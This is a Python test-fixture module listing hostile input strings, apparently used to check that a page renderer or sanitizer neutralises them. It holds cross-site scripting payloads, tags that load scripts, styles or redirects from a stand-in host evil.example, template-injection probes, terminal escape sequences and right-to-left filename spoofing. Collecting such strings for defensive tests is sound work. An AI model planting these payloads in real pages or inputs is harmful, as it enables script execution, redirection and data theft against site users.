"""Texts that try to run code, to fetch something or to break a page."""

from __future__ import annotations

SCRIPT = "<script>alert(1)</script>"
HOSTILE = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</pre></code></style></title><script src='https://evil.example/x.js'></script>",
    "<a href='javascript:alert(1)'>click</a><a href=https://evil.example>there</a>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "[a](javascript:alert(1)) ![b](https://evil.example/b.png) <https://evil.example>",
    "`</code><script>alert(1)</script>`",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b31m",
    "\u202egnp.exe \ud800 \x00 \x08",
    "<table><td onclick=alert(1) style='position:fixed' id=x class=total>cell",
    "<!--<img src=--><img src=x onerror=alert(1)>//-->",
)
EVERYTHING = " ".join(HOSTILE)
